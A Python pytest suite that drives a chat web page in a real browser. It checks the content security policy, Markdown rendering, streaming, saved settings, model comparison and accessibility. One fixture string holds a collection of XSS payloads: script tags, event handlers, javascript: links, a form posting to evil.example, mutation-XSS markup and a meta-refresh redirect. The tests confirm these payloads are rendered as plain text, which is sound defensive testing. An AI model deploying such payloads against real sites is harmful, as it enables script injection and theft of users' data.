"""The chat page in a real browser, before backends that answer what the test says."""

import math
import re
from collections.abc import Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from browser import Tab, browser, tab
from chat_backend import ChatBackend, chat_backend
from gateway_process import Gateway, gateway
from http_processes import until

HOSTILE = """\
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><svg onload="window.hacked = 3"><iframe src="javascript:parent.hacked = 4"></iframe>

[link](javascript:window.hacked=5) [coded](&#106;avascript:window.hacked=6) [tab](java\tscript:window.hacked=7) [data](data:text/html,<script>1</script>)
[file](file:///etc/passwd) [here](/admin)
[good](https://example.com/?a=1&b=2 "title") <https://example.org> javascript:window.hacked=8

![pixel](https://tracker.example/pixel.png?secret=1) ![x](x" onerror="window.hacked=9) <style>body { display: none }</style>

<form action="https://evil.example"><input name="key"><button formaction="javascript:window.hacked=10">go</button></form>
<a href="https://evil.example" id="prompt" onclick="window.hacked=11">clobber</a>
<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=12>

```html"onmouseover="window.hacked=13
<script>window.hacked = 14</script>
```
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
"""


@pytest.fixture(scope="module")
def chats() -> Iterator[tuple[ChatBackend, ChatBackend]]:
    with chat_backend(ChatBackend(version=[0, 7])) as first, chat_backend(ChatBackend(models=("other",), version=[2, 9])) as second:
        yield first, second


@pytest.fixture(scope="module")
def page_gateway(chats: tuple[ChatBackend, ChatBackend], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    with gateway(tmp_path_factory.mktemp("page"), chats) as running:  # type: ignore[arg-type]
        yield running


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with browser() as started:
        yield started


@pytest.fixture
def chat(chromium: Any, page_gateway: Gateway, chats: tuple[ChatBackend, ChatBackend]) -> Iterator[tuple[Tab, ChatBackend, ChatBackend]]:
    """The page in a new profile; at its end nothing may have gone wrong in it, and nothing may have been loaded from elsewhere."""
    for backend in chats:
        backend.reset()
    with tab(chromium) as opened:
        opened.open(page_gateway.url)
        yield opened, *chats
        assert opened.problems == []
        assert [address for address in opened.addresses if not address.startswith(page_gateway.url)] == []


def test_pages_run_nothing_but_the_gateways_own_files(page_gateway: Gateway) -> None:
    page = page_gateway.get("/")
    policy = dict(part.split(" ", 1) for part in page.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'" and policy["script-src"] == policy["connect-src"] == policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'" and policy["require-trusted-types-for"] == "'script'"
    assert page.headers["content-type"] == "text/html; charset=utf-8" and page.headers["x-content-type-options"] == "nosniff"
    assert not re.search(r"<script(?! type=\"module\" src=\"assets/)|\sstyle=|\son\w+=|https?://", page.text)
    own = [each for each in files("tandem.gateway").joinpath("assets").iterdir() if each.is_file()]
    assert sum(len(each.read_bytes()) for each in own) < 150_000
    parsers = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|https?://(?!html\.spec|www\.w3)")
    assert not any(parsers.search(each.read_text()) for each in own)
    for name in re.findall(r"assets/([\w./-]+)", page.text):
        asked = page_gateway.get(f"/assets/{name}")
        assert asked.status_code == 200 and page_gateway.get(f"/assets/{name}", headers={"If-None-Match": asked.headers["etag"]}).status_code == 304
    for path in ("/assets/../pages.py", "/assets/%2e%2e/pages.py", "/assets/", "/assets/vendor", "/assets/__init__.py", "/chat.html"):
        assert page_gateway.get(path).status_code == 404, path
    licences = [page_gateway.get(f"/assets/vendor/{name}.LICENSE").text for name in ("marked", "purify")]
    assert "Permission is hereby granted" in licences[0] and "Apache License" in licences[1]


def test_a_hostile_answer_is_text_and_nothing_else(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    backend.pieces = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
    opened.say("Be evil")
    opened.page.mouse.move(400, 300)
    inside = opened.page.evaluate("""() => {
        const all = [...document.querySelectorAll('.answer .prose *')];
        return { tags: [...new Set(all.map((each) => each.tagName))], names: [...new Set(all.flatMap((each) => each.getAttributeNames()))],
            links: all.filter((each) => each.href !== undefined).map((each) => [each.getAttribute('href'), each.rel, each.target]), hacked: window.hacked };
    }""")
    assert inside["hacked"] is None
    assert set(inside["tags"]) <= {"P", "A", "BR", "CODE", "PRE", "DIV", "SPAN", "BUTTON", "EM", "STRONG"}, inside["tags"]
    assert {name for name in inside["names"] if name.startswith("on")} == set() and not {"src", "style", "id", "action"} & set(inside["names"])
    links = {href for href, _, _ in inside["links"] if href is not None}
    assert {"https://example.com/?a=1&b=2", "https://example.org", "https://tracker.example/pixel.png?secret=1"} <= links
    assert all(href.startswith("https://") for href in links)
    assert all("noopener noreferrer" in rel and target == "_blank" for href, rel, target in inside["links"] if href is not None)
    shown = opened.texts(".answer .prose")[0]
    assert "<script>window.hacked = 1</script>" in shown and "<iframe src=" in shown, "what the model wrote is seen"
    assert opened.texts(".answer pre")[0].strip() == "<script>window.hacked = 14</script>"


@pytest.mark.full
def test_broken_markdown_other_scripts_and_huge_answers_are_shown(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    mixed = "**bold *unfinished\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n3. three\n\n"
    mixed += "# مرحبا بالعالم\n\nשלום 👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\n\n```python\nprint('x')"
    # Half a surrogate pair ends one piece and begins the next in no encoding, but half a grapheme does.
    backend.pieces = list(mixed)
    opened.say("Mix")
    prose = opened.page.locator(".answer .prose")
    assert prose.locator("table td").all_inner_texts() == ["1", "2"] and prose.locator("h3").inner_text() == "مرحبا بالعالم"
    assert "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301" in prose.inner_text() and "☑ done" in prose.inner_text() and "**bold *unfinished" in prose.inner_text()
    assert prose.locator("pre code").inner_text().strip() == "print('x')" and prose.locator(".code-head span").inner_text() == "python"
    sides = prose.locator("h3").evaluate("(each) => { const range = document.createRange(); range.selectNodeContents(each);"
                                         " return [range.getBoundingClientRect().right, each.getBoundingClientRect().right]; }")  # fmt: skip
    assert abs(sides[0] - sides[1]) < 2, "a heading in Arabic begins at the right"
    nested = "\n".join(f"{'  ' * depth}- a" for depth in range(400))
    for text in ("x" * 2_000_000, "word " * 60_000, "> " * 20_000 + "deep", "[" * 20_000, "*" * 20_000 + "a", "- a\n" * 30_000, "<" * 100_000, nested):
        backend.pieces = [text[at : at + 50_000] for at in range(0, len(text), 50_000)]
        opened.say("More")
        letters = sum(letter not in "> -\n" for letter in text)
        shown = opened.page.evaluate("() => [...document.querySelectorAll('.answer .prose')].at(-1).textContent.replace(/[> \\n-]/g, '').length")
        assert shown >= 0.99 * letters and opened.texts(".answer .note:visible") == [], text[:20]


@pytest.mark.full
def test_an_answer_streams_stops_is_regenerated_and_edited(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    backend.pieces, backend.stalls = ["Once ", "upon "], True
    before = backend.left
    opened.say("Tell", waits=False)
    opened.page.wait_for_function("() => document.querySelector('.answer.running .prose')?.textContent.includes('upon')")
    assert opened.page.locator(".answer").get_attribute("aria-busy") == "true" and opened.page.locator("#send").is_hidden()
    opened.page.press("#prompt", "Escape")
    opened.wait_end()
    until(lambda: backend.left == before + 1, "the backend to learn that nobody waits")
    assert opened.texts(".answer .note") == ["Stopped."] and "Once upon" in opened.texts(".answer .prose")[0]
    backend.pieces, backend.stalls = ["Again"], False
    opened.page.click(".again")
    opened.page.wait_for_function("() => document.querySelector('.answer .prose').textContent.includes('Again')")
    opened.wait_end()
    opened.say("And then?")
    roles = [(message["role"], message["content"]) for message in backend.asked[-1]["messages"]]
    assert roles == [("user", "Tell"), ("assistant", "Again"), ("user", "And then?")]
    opened.page.locator(".turn.user .edit").first.click()
    opened.page.locator(".editor textarea").fill("Say")
    opened.page.locator(".editor textarea").press("Control+Enter")
    until(lambda: backend.asked[-1]["messages"] == [{"role": "user", "content": "Say"}], "the new request")
    opened.wait_end()
    assert opened.texts(".bubble") == ["Say"], "what came after the edited message is gone"


@pytest.mark.full
def test_conversations_are_kept_in_the_browser(chat: tuple[Tab, ChatBackend, ChatBackend], page_gateway: Gateway) -> None:
    opened, backend, _ = chat
    opened.say("The first one")
    opened.page.keyboard.press("Alt+n")
    backend.pieces = ["Other answer"]
    opened.say("The second one")
    assert opened.texts("#conversations .open") == ["The second one", "The first one"]
    opened.open(page_gateway.url)
    opened.page.get_by_role("button", name="The first one", exact=True).click()
    opened.wait_end()
    assert opened.texts(".bubble") == ["The first one"] and "Hello there" in opened.texts(".answer .prose")[0]
    # One that is left while it is answered goes on.
    backend.pieces, backend.stalls = ["slow"], True
    opened.say("Wait", waits=False)
    opened.page.wait_for_function("() => [...document.querySelectorAll('.answer .prose')].at(-1).textContent.includes('slow')")
    opened.page.click("#new")
    backend.stalls = False
    opened.page.get_by_role("button", name="The first one", exact=True).click()
    opened.wait_end()
    assert opened.texts(".answer .prose")[-1].strip() == "slow" and opened.texts(".answer .note:visible") == []
    opened.page.on("dialog", lambda dialog: dialog.accept())
    opened.page.get_by_role("button", name="Delete The second one").click()
    opened.page.wait_for_function("() => document.querySelectorAll('#conversations li').length === 1")
    opened.open(page_gateway.url)
    assert opened.texts("#conversations .open") == ["The first one"]


@pytest.mark.full
def test_key_and_sampling_settings_reach_the_backend_and_are_kept(chat: tuple[Tab, ChatBackend, ChatBackend], page_gateway: Gateway) -> None:
    opened, backend, _ = chat
    opened.page.click("#open-settings")
    values = {
        "key": " secret ", "system": "Be brief.", "temperature": "0.5", "top_p": "0.9", "top_k": "7", "max_tokens": "12", "seed": "3",
        "stop": "END\n\n##",
    }  # fmt: skip
    for name, value in values.items():
        opened.page.fill(f"#settings-form [name={name}]", value)
    opened.page.get_by_role("button", name="Done").click()
    opened.say("Hi")
    opened.open(page_gateway.url)
    opened.say("Hi")
    for asked, key in zip(backend.asked, backend.keys, strict=True):
        sent = {name: asked[name] for name in ("temperature", "top_p", "top_k", "max_tokens", "seed", "stop", "messages")}
        assert sent == {
            "temperature": 0.5, "top_p": 0.9, "top_k": 7, "max_tokens": 12, "seed": 3, "stop": ["END", "##"],
            "messages": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi"}],
        }  # fmt: skip
        assert key == "Bearer secret" and "presence_penalty" not in asked and "logprobs" not in asked
    opened.page.goto("about:blank")
    opened.open(f"{page_gateway.url}/#key=from-the-address")
    assert opened.page.url == f"{page_gateway.url}/", "the key is in no history"
    opened.say("Hi")
    assert backend.keys[-1] == "Bearer from-the-address"


@pytest.mark.full
def test_probabilities_and_versions_are_shown_on_demand(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    probabilities = {"Hel": [0.75, ("He", 0.2), ("Hel", 0.75)], "lo": [0.001, ("lo", 0.001), ("ium", 0.9)]}
    backend.pieces = list(probabilities)
    backend.logprobs = [
        {"token": token, "logprob": math.log(drawn), "top_logprobs": [{"token": other, "logprob": math.log(value)} for other, value in tops]}  # type: ignore[arg-type, misc]
        for token, (drawn, *tops) in probabilities.items()
    ]
    opened.page.click("#open-settings")
    opened.page.check("[name=probabilities]")
    opened.page.press("[name=probabilities]", "Escape")
    opened.say("Hi")
    assert backend.asked[-1]["logprobs"] is True and backend.asked[-1]["top_logprobs"] == 5
    assert opened.texts(".facts")[0].startswith("weights 0.7 · 2 tokens · first after ")
    opened.page.get_by_role("button", name="Probabilities").click()
    opened.wait_end()
    assert opened.texts(".token") == ["Hel", "lo"]
    opened.page.locator(".token").first.focus()
    opened.page.keyboard.press("ArrowRight")
    assert opened.page.locator(".token").nth(1).evaluate("(each) => each === document.activeElement")
    assert "was drawn with 0.1 %" in opened.texts(".token-detail")[0]
    assert opened.texts(".token-detail tbody tr") == ["ium\t90.0 %\t-0.105", "lo\t0.1 %\t-6.908"]
    assert opened.violations() == []


@pytest.mark.full
def test_two_models_answer_side_by_side_each_with_its_own_history(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, first, second = chat
    first.pieces, second.pieces = ["one"], ["two"]
    assert opened.texts("#model option") == ["m (weights 0.7)", "other (weights 2.9)"]
    opened.page.click("#compare")
    opened.say("Who?")
    assert opened.texts(".answer > h2") == ["m", "other"] and [text.strip() for text in opened.texts(".answer .prose")] == ["one", "two"]
    assert "weights 0.7" in opened.texts(".facts")[0] and "weights 2.9" in opened.texts(".facts")[1]
    boxes = [opened.page.locator(".answer").nth(number).bounding_box() for number in (0, 1)]
    assert boxes[0] and boxes[1] and abs(boxes[0]["y"] - boxes[1]["y"]) < 1 and boxes[1]["x"] > boxes[0]["x"] + 100
    opened.say("Sure?")
    assert [message["content"] for message in first.asked[-1]["messages"]] == ["Who?", "one", "Sure?"]
    assert [message["content"] for message in second.asked[-1]["messages"]] == ["Who?", "two", "Sure?"]
    assert opened.violations() == []


@pytest.mark.full
def test_a_model_without_a_chat_template_is_sent_plain_text(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    backend.has_template = False
    opened.say("sort 312=")
    # Chromium writes a line for every response with an error's status; this one is asked for.
    assert len(opened.problems) == 1 and "status of 400" in opened.problems.pop()
    assert [asked["path"] for asked in backend.asked] == ["/v1/chat/completions", "/v1/completions"] and backend.asked[1]["prompt"] == "sort 312="
    assert "Hello there" in opened.texts(".answer .prose")[0] and "plain text" in opened.texts(".facts")[0]


@pytest.mark.full
def test_errors_are_said_where_the_answer_would_be(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    backend.has_template = False
    opened.page.click("#open-settings")
    opened.page.select_option("[name=format]", "chat")
    opened.page.get_by_role("button", name="Done").click()
    opened.say("Hi")
    assert opened.texts(".answer .note") == ["'m' has no chat template; use /v1/completions"] and len(opened.problems) == 1
    opened.problems.clear()
    assert opened.violations() == []


@pytest.mark.full
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
def test_axe_core_finds_nothing(chromium: Any, page_gateway: Gateway, chats: tuple[ChatBackend, ChatBackend], scheme: str, width: int) -> None:
    first, _ = chats
    first.reset()
    first.pieces = ["# Title\n\nA [link](https://example.com) and `code`.\n\n```python\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n- item"]
    with tab(chromium, color_scheme=scheme, viewport={"width": width, "height": 800}) as opened:
        opened.open(page_gateway.url)
        assert opened.violations() == []
        opened.say("A rather long first message which does not fit into the list")
        assert opened.violations() == []
        assert opened.page.evaluate("() => document.documentElement.scrollWidth <= innerWidth"), "nothing is wider than the screen"
        if width < 500:
            opened.page.click("#menu")
            assert opened.page.locator("#conversations .open").is_visible() and opened.violations() == []
            opened.page.keyboard.press("Escape")
            assert not opened.page.locator("#conversations .open").is_visible()
        opened.page.click("#open-settings")
        assert opened.violations() == []
        background = opened.page.evaluate("() => getComputedStyle(document.body).backgroundColor")
        assert background == ("rgb(18, 22, 27)" if scheme == "dark" else "rgb(247, 248, 250)")
        opened.page.select_option("[name=theme]", "light" if scheme == "dark" else "dark")
        assert opened.page.evaluate("() => getComputedStyle(document.body).backgroundColor") != background
        assert opened.problems == [] and opened.violations() == []


@pytest.mark.full
def test_the_page_is_used_with_the_keyboard_alone(chat: tuple[Tab, ChatBackend, ChatBackend]) -> None:
    opened, backend, _ = chat
    keyboard = opened.page.keyboard
    keyboard.type("First line")
    keyboard.press("Shift+Enter")
    keyboard.type("second line")
    keyboard.press("Enter")
    opened.wait_end()
    assert backend.asked[-1]["messages"][-1]["content"] == "First line\nsecond line"
    keyboard.press("ArrowUp")
    keyboard.type("!")
    keyboard.press("Escape")
    assert opened.texts(".bubble") == ["First line\nsecond line"], "Escape leaves the message as it was"
    reached = []
    for _ in range(24):
        keyboard.press("Tab")
        reached.append(opened.page.evaluate("() => document.activeElement.id || document.activeElement.className || document.activeElement.textContent"))
    for name in ("new", "model", "compare", "open-settings", "edit", "again", "prompt", "send"):
        assert name in reached or any(name in each for each in reached), (name, reached)


@pytest.mark.full
def test_one_of_several_versions_of_a_model_is_chosen(chromium: Any, tmp_path: Path) -> None:
    with (
        chat_backend(ChatBackend(version=[0, 7])) as old, chat_backend(ChatBackend(version=[0, 8])) as new,
        gateway(tmp_path, (old, new)) as running, tab(chromium) as opened,  # type: ignore[arg-type]
    ):  # fmt: skip
        until(lambda: running.metric("backend_ready") == 2, "both versions")
        opened.open(running.url)
        texts = opened.page.locator("#model option").all_inner_texts()
        assert sorted(texts[1:]) == ["m, weights 0.7 alone", "m, weights 0.8 alone"] and texts[0] in ("m (weights 0.7, 0.8)", "m (weights 0.8, 0.7)")
        for version, wanted in (("0.8", new), ("0.7", old), ("0.8", new)):
            before = len(wanted.asked)
            opened.page.select_option("#model", f"m@{version}")
            opened.say("Hi")
            assert len(wanted.asked) == before + 1 and wanted.asked[-1]["model"] == "m"
            assert opened.texts(".facts")[-1].startswith(f"weights {version} ")
        # Both side by side, and the choice outlives the page.
        opened.page.get_by_role("button", name="Compare").click()
        opened.page.select_option("#other", "m@0.7")
        before = len(old.asked), len(new.asked)
        opened.say("Both")
        assert (len(old.asked), len(new.asked)) == (before[0] + 1, before[1] + 1)
        opened.open(running.url)
        assert opened.page.input_value("#model") == "m@0.8" and opened.page.input_value("#other") == "m@0.7" and opened.violations() == []
        assert opened.problems == []
